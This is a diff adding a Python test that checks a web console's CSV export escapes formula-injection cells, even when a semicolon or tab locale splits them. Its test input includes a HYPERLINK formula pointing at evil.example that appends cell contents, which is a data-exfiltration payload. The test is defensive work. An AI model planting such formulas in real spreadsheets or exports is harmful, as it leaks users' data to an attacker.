@@ -196,3 +196,24 @@ def test_a_search_counted_only_so_far_says_so_and_still_pages_on() -> None:
     assert past.next == "/console/forms/F/records?page=502" and past.label == ("501+", "10001+")
     exact = Pager(25, 500, 20, "/console/forms/F/records?")
     assert exact.label == ("25", "500") and exact.next is None
+
+
+def test_csv_export_keeps_formulas_text_where_a_semicolon_or_tab_spreadsheet_splits_cells(adm: SignedIn) -> None:
+    """Excel in a locale whose list separator is ``;`` splits a .csv's lines at ``;`` (and tabs) and keeps no quoted
+    cell after a ``,`` whole, so a line end inside it begins a row: no cell it sees may begin a formula."""
+    adm.refresh_csrf("/console/inbox")
+    title = 'zz-csv-split;=HYPERLINK("http://evil.example/?"&A1,"open");'
+    body = 'line one\n=1+1;\t@SUM(1);""-2+3'
+    made = adm.post("/console/forms/FORM-CONSOLE-NOTE/new", {"f.textField_title": title, "f.textareaField_body": body})
+    assert made.status_code == 303, made.text
+    exported = adm.get("/console/forms/FORM-CONSOLE-NOTE/export?format=csv&s.textField_title=zz-csv-split")
+    text = exported.content.decode("utf-8-sig")
+    for delimiter in (",", ";", "\t"):
+        cells = [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]
+        assert cells, delimiter
+        starts = [cell for cell in cells if cell.lstrip('"')[:1] in ("=", "+", "-", "@")]
+        assert starts == [], (delimiter, starts)
+    # Read as it was written, each value is the one entered, its formula starts marked with '.
+    row = list(csv.reader(io.StringIO(text)))[1]
+    assert row[0] == title.replace(";=", ";'=")
+    assert row[1] == "line one\n'=1+1;'\t'@SUM(1);\"\"'-2+3"
